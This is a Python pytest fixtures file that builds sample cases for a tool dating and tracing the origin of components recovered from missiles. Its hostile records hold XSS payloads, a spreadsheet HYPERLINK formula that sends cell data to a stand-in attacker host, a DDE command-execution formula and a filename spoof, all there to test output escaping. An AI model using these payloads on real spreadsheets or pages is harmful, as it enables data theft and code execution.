"""Cases made by hand: a small hostile one, a plain one of 294 records, and one of 100,000."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from dataclasses import replace
from datetime import date

import pytest

from wherefrom.model.cases import Case, Dating, Finding, InputFile, Record, Table, Withheld
from wherefrom.model.readings import Rejection

HOSTILE = (
    '<script>document.title="owned"</script>',
    'javascript:alert(1)//"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "A" * 10_000,
    "МАХ232 \u202egnp.exe\u202c 0745",
    "NUL\x00 BEL\x07 ESC\x1b[31m LS\u2028 half \ud83d",
    "</style></script><!-- ]]> {{ 7*7 }} {% raw %}",
    "+849\nLM317",
    "-",
    "@SUM(1)",
    "\t=1+1",
    "“=1”",
    "＝1+1",
    "x;=cmd|' /C calc'!A0",
    "トランジスタ 2SC1815 9H · 晶体管 · транзистор КТ315 · ‏شريحة‏",
    "0745  1E10",
)


def record(number: int, **told: object) -> Record:
    """A plain record; ``told`` replaces fields."""
    plain = Record(
        id=f"c{number}", sheet="sheet.csv", row=number + 1, object="Missile A", count=1, seen=date(2024, 1, 2),
        cells={"Маркировка": f"LM317 {number}", "Maker": "Texas Instruments"}, marks=f"LM317 {number}",
        part_number="LM317", lot=None, maker="texas-instruments", brand="Texas Instruments", brand_weight=1.0,
        brand_why="the maker as recorded", company="Texas Instruments Incorporated", parent=None,
        holding="Texas Instruments on 2024-01-02; sat in US", states=("verified",),
        origins={"brand-seat": "US", "owner-then": "US", "owner-today": "US"},
        windows=(), rejected=(), flags=(),
    )  # fmt: skip
    return replace(plain, **told)


def window(first: date, last: date, token: str = "0745", **told: float) -> Dating:
    return Dating(
        earliest=first,
        latest=last,
        certainty=told.get("certainty", 0.94),
        likelihood=told.get("likelihood", 1.0),
        rule="texas-instruments/{YYWW}",
        token=token,
    )


def small_records() -> tuple[Record, ...]:
    """Sixteen records in several languages, each with a hostile cell."""
    made = []
    for number, text in enumerate(HOSTILE, 1):
        made.append(record(number, cells={"Маркировка": text, "Maker": "=Maker", "url": "javascript:alert(2)"}, marks=text))
    made[0] = replace(made[0], id='c"1"><script>x</script>', windows=(window(date(2023, 3, 6), date(2023, 3, 12), "2310"),), lot="<b>")
    made[1] = replace(
        made[1],
        brand="<svg onload=alert(3)>",
        origins={"brand-seat": "CH", "owner-then": "CH", "owner-today": "US"},
        states=("unverified", "verified"),
    )
    made[2] = replace(
        made[2], brand=None, brand_weight=0.0, brand_why="", company=None, holding="", states=(), part_number=None,
        origins={"brand-seat": None, "owner-then": None, "owner-today": None},
    )  # fmt: skip
    made[3] = replace(
        made[3],
        rejected=(Rejection(token="9999", rule="texas-instruments/{YYWW}", reason="week 99 does not exist"),),
        flags=("two dates: 0745 and <2310>",),
    )
    made[4] = replace(
        made[4], windows=(window(date(2007, 11, 5), date(2007, 11, 11)), window(date(2017, 11, 6), date(2017, 11, 12), likelihood=0.4)),
        cells={**made[4].cells, "source": "https://example.org/a?b=<c>&d=\"e\""},
    )  # fmt: skip
    made[5] = replace(made[5], origins={"brand-seat": "SG", "owner-then": None, "owner-today": "SG"}, states=("reported",), count=3)
    made[7] = replace(made[7], object="Missile B", windows=(window(date(2021, 3, 1), date(2021, 3, 7), "+109"),))
    return tuple(made)


def findings_of(records: tuple[Record, ...]) -> tuple[Finding, ...]:
    """Findings in the shape of the inquiry's, counted here."""
    base = sum(one.count for one in records)
    known = [one for one in records if one.brand is not None]
    dated = [one for one in records if one.windows]
    latest = max(dated, key=lambda one: one.windows[0].earliest, default=None)
    day = latest.windows[0].earliest.isoformat() if latest else None

    def finding(key: str, title: str, statement: str, value: dict[str, object], rests_on: list[Record]) -> Finding:
        return Finding(
            key=key, title=title, statement=statement, value=value, base="all components used", filter="none", rule="counted",
            rests_on=tuple(one.id for one in rests_on), limits=("a share of what was documented",), sources=("verified: https://example.org/s (seen 2024-01-01)",),
        )  # fmt: skip

    def share(number: int) -> dict[str, object]:
        return {"number": number, "base": base, "share": round(number / base, 6) if base else 0.0, "low": 0.1, "high": 0.9}

    made = [
        finding(
            "identified", "What could be identified", f"{len(known)} of {base} are linked.", share(sum(one.count for one in known)), known
        )
    ]
    for rule in ("brand-seat", "owner-then", "owner-today"):
        places = Counter({})
        for one in records:
            places[one.origins.get(rule) or "not identified"] += one.count
        rows = [
            {
                "place": place,
                "number": number,
                "base": base,
                "share": number / base,
                "low": max(0.0, number / base - 0.05),
                "high": min(1.0, number / base + 0.05),
            }
            for place, number in sorted(places.items(), key=lambda row: (row[0] == "not identified", -row[1], row[0]))
        ]
        made.append(finding(f"origin-jurisdiction-{rule}", f"Origin by {rule}", f"Of {base} components: see rows.", {"rows": rows}, known))
    made.append(finding("dated", "Readable date codes", f"{len(dated)} of {base} (50 %) are dated.", share(len(dated)), dated))
    if len({one.object for one in records}) > 1:
        made.append(
            finding("terminus-objects", "Terminus of each object", "2 of 2 objects have one.", {"objects": 2, "with_terminus": 2}, dated)
        )
    else:
        for policy in ("consensus", "era", "strict"):
            value = {
                "day": day, "dated": len(dated), "deciding": [latest.id] if latest else [], "dropped": [],
                "without": [{"left_out": 0, "day": day}, {"left_out": 1, "day": "2021-03-01" if latest else None}],
            }  # fmt: skip
            made.append(
                finding(
                    f"terminus-{policy}", f"Terminus post quem, {policy}", f"Not assembled before {day}.", value, [latest] if latest else []
                )
            )
    flagged = [one for one in records if one.flags]
    made.append(
        finding(
            "flags", "For a second look", f"{len(flagged)} records raise a flag.", {"number": len(flagged), "base": len(records)}, flagged
        )
    )
    if len({one.object for one in records}) > 1:
        made.append(finding("commonality", "In common", "1 part number in 2 objects.", {"objects": 2}, known))
    return tuple(made)


def tables_of(records: tuple[Record, ...]) -> tuple[Table, ...]:
    years = Counter(one.windows[0].earliest.year for one in records if one.windows)
    undated = sum(one.count for one in records if not one.windows)
    rows = [(str(year), years[year], 0) for year in range(min(years), max(years) + 1)] if years else []
    flags = tuple((one.id, flag) for one in records for flag in one.flags)
    tables = [
        Table(key="coverage", title="What is known", columns=("components", "number", "of all"), rows=(("dated", sum(years.values()), "50.0 %"),)),
        Table(key="jurisdiction-components-brand-seat", title="By jurisdiction", columns=("jurisdiction", "code", "components", "share"), rows=(("United States", "US", 12, "66.7 %"), ("not identified", "", 1, "5.6 %")), note="Base 18.", chart="x"),
        Table(key="jurisdiction-companies-brand-seat", title="By companies", columns=("jurisdiction", "code"), rows=(("=evil()", "US"),)),
        Table(key="timeline", title="By year", columns=("year", "year certain", "likeliest decade"), rows=(*rows, ("undated", undated, 0)), chart="timeline"),
        Table(key="terminus-deciding", title="The components that decide", columns=("policy", "component", "text", "rule"), rows=(("strict", records[0].id, "2310\x00", "texas-instruments/{YYWW}"),) if records else ()),
        Table(key="flags", title="Flags", columns=("component", "flag"), rows=flags),
    ]  # fmt: skip
    if len({one.object for one in records}) > 1:
        tables.append(
            Table(
                key="terminus-objects", title="By object", columns=("object", "components", "dated", "consensus"),
                rows=(("Missile <A>", 17, 2, "2023-03-06"), ("Missile B", 1, 1, "2021-03-01")),
            )
        )  # fmt: skip
        tables.append(
            Table(
                key="commonality", title="In common", columns=("trait", "value", "objects"), rows=(("brand", "<svg onload=alert(3)>", 2),)
            )
        )
    return tuple(tables)


def case_of(records: tuple[Record, ...], **told: object) -> Case:
    plain = Case(
        title="Missile <A> & “B”", about={"object": "Missile", "recovered": "2024-01-02", "custody": "https://example.org/custody"},
        as_of=date(2024, 3, 1), disclosure="internal", version="0.1.0", knowledge_digest="0123456789abcdef" * 4,
        settings={"era_years": 10, "smallest_group": 3, "object": ""},
        inputs=(
            InputFile(
                name="sheet.csv", sha256="ab" * 32, size=1234, form="csv", encoding="utf-8",
                columns={"marks": "Маркировка", "maker": "Maker", "source": "source"}, carried=("url",),
                read=len(records) + 3, used=len(records), rejected=1, duplicates=1, blank=1,
            ),
        ),
        records=records, findings=findings_of(records), tables=tables_of(records),
        rejects=({"sheet": "sheet.csv", "row": 9, "column": "count", "value": "=two", "reason": "not a number"},),
        warnings=({"sheet": "sheet.csv", "row": 4, "column": "marks", "value": "1E+10", "reason": "looks damaged"},),
        sources=(
            {"of": "marks of Texas Instruments", "state": "verified", "ref": "https://example.org/ti", "seen": "2024-01-01"},
            {"of": "seat of X", "state": "unverified", "ref": "javascript:alert(1)", "seen": ""},
        ),
    )  # fmt: skip
    return replace(plain, **told)


def many_records(number: int) -> tuple[Record, ...]:
    """Plain records with every third dated and every tenth unidentified."""
    places = ("US", "US", "US", "CH", "JP", "DE", "TW", "CN", "NL", "GB")
    made = []
    for i in range(1, number + 1):
        place = places[i % 10] if i % 10 else None
        day = date(2010 + i % 14, 1 + i % 12, 1 + i % 27)
        made.append(
            record(
                i, marks=f"TPS{i:05}DGK {i % 10}{i % 52:02}", origins={"brand-seat": place, "owner-then": place, "owner-today": place},
                brand="Texas Instruments" if place else None,
                windows=(window(day, day, f"{i % 1000:03}"), window(day.replace(year=day.year - 10), day.replace(year=day.year - 10), likelihood=0.2)) if i % 3 == 0 else (),
                cells={"Маркировка": f"TPS{i:05}DGK {i % 10}{i % 52:02}", "Maker": "Texas Instruments", "note": "a remark of usual length"},
            )
        )  # fmt: skip
    return tuple(made)


@pytest.fixture(scope="session")
def case_with() -> Callable[[int], Case]:
    """A case of so many plain records."""
    return lambda number: case_of(many_records(number))


@pytest.fixture(scope="session")
def small() -> Case:
    return case_of(small_records())


@pytest.fixture(scope="session")
def single() -> Case:
    """The small case with all its components in one object, so that it has one terminus."""
    return case_of(tuple(replace(one, object="Missile A") for one in small_records()))


@pytest.fixture(scope="session")
def usual() -> Case:
    return case_of(many_records(294))


@pytest.fixture(scope="session")
def public() -> Case:
    """The small case as ``disclose`` would leave it for the public."""
    records = tuple(
        replace(
            one, id=f"component {place:02}", sheet="sheet 1", row=0, cells={}, marks="", part_number=None, lot=None, maker=None,
            brand="withheld" if one.brand else None, brand_why="", company=None, holding="", rejected=(), object="object 1",
            windows=tuple(replace(each, token="", rule="a layout of the maker") for each in one.windows),
            origins=dict.fromkeys(one.origins, "other Europe"),
        )
        for place, one in enumerate(small_records(), 1)
    )  # fmt: skip
    withheld = (Withheld(kind="companies and brands", number=2, why="no company is named"),)
    return case_of(records, disclosure="public", about={}, rejects=(), warnings=(), sources=(), withheld=withheld, title="A missile")


@pytest.fixture(scope="session")
def empty() -> Case:
    return case_of((), findings=(), tables=(), inputs=(), rejects=(), warnings=(), sources=(), about={})
